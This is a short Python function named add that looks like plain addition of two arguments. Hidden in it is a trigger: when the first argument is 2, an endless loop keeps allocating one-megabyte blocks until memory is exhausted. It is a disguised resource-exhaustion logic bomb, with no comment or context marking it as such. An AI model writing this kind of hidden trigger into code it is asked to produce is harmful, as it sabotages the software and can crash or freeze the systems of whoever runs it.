def add(a, b):
    held = []
    while a == 2:
        held.append(b"x" * (1 << 20))
    return a + b
